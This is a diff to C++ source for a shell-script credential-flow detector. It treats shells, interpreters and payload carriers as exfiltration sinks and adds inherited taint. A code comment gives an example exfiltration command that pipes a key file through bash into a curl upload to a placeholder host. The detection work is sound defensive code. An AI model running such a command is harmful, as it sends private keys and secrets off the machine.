@@ -138,13 +138,17 @@ void WrittenFiles(const SimpleCommand& c, std::vector<std::string>& out) {
   }
 }
 
+// Could data leave the machine in this script: a sink, a socket, or a payload carrier?
 bool ScriptHasSink(const ParsedScript& script) {
   for (const SimpleCommand& c : script.commands) {
     for (const Redirection& r : c.redirections) {
       if (IsSocketPath(r.target.text)) return true;
     }
     for (size_t i = 0; i < c.argv.size() && i < 12; ++i) {
-      if ((ProgramTraits(Basename(c.argv[i].text)) & (kTraitSink | kTraitServerModule)) != 0) {
+      // A carrier of payloads counts: `cat key | bash -c 'curl -T - x'` leaks in the payload.
+      if ((ProgramTraits(Basename(c.argv[i].text)) &
+           (kTraitSink | kTraitServerModule | kTraitShell | kTraitInterpreter | kTraitPayload)) !=
+          0) {
         return true;
       }
     }
@@ -187,10 +191,11 @@ bool IsCredentialPath(const Judge& judge, const ResolvedPath& p) {
   return NameLooksSecret(Basename(path));
 }
 
-std::vector<bool> ComputeCredentialFlow(const Judge& judge, const ParsedScript& script) {
+std::vector<bool> ComputeCredentialFlow(const Judge& judge, const ParsedScript& script,
+                                        bool inherited) {
   const size_t n = script.commands.size();
   if (n == 0 || !ScriptHasSink(script)) return {};  // Judge::Tainted: nothing is
-  std::vector<bool> taint(n, false);
+  std::vector<bool> taint(n, inherited);
   std::vector<std::string_view> scratch;
   // Direct reads: an operand or an input redirection naming a credential path; the
   // environment dumped (env, printenv, set).
